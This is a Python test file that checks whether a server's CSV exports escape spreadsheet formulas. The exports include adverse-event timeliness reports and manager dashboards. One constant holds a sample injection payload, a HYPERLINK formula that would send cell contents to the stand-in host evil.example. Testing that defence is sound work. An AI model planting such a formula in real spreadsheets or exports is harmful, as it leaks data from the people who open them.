"""Every CSV the server emits escapes cells a spreadsheet would run as formulas (OWASP's CSV-injection rule)."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from liaison.server.csv_export import FORMULA_STARTS, safe_cell, to_csv
from liaison.server.embedded import EmbeddedServer
from tests.server.test_reports import adverse_event
from tests.server.test_routes import Device

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'


@given(st.lists(st.lists(st.one_of(st.none(), st.integers(), st.floats(allow_nan=False), st.text()), min_size=1, max_size=4), max_size=5))
def test_no_text_cell_opens_a_formula_and_each_reads_back_as_written_after_the_quote(rows: list[list[object]]) -> None:
    width = max((len(row) for row in rows), default=1)
    padded = [row + [None] * (width - len(row)) for row in rows]
    read = list(csv.reader(io.StringIO(to_csv([f"c{n}" for n in range(width)], padded), newline="")))[1:]
    for written, cells in zip(padded, read, strict=True):
        for value, cell in zip(written, cells, strict=True):
            assert not (isinstance(value, str) and cell.startswith(FORMULA_STARTS))
            expected = "" if value is None else str(value)
            assert cell == (("'" + expected) if isinstance(value, str) and value.startswith(FORMULA_STARTS) else expected)


def test_numbers_are_left_alone_even_when_negative() -> None:
    assert safe_cell(-3.5) == -3.5 and safe_cell("-3.5") == "'-3.5" and safe_cell("3 = 3") == "3 = 3"


def test_the_ae_timeliness_csv_and_the_dashboards_escape_field_text(server: EmbeddedServer) -> None:
    Device(server, "mia@example.org", role="manager")
    ada = Device(server, "ada@example.org", manager="mia@example.org")
    assert ada.push(adverse_event(ada, "ae-1", 2, product=FORMULA)).status_code == 200
    mia = Device(server, "mia@example.org", name="tablet")
    for path in ("/reports/ae-timeliness?format=csv", "/manager/ae-timeliness.csv"):
        [row] = list(csv.DictReader(io.StringIO(mia.client.get(path).text)))
        assert row["product"] == "'" + FORMULA, path
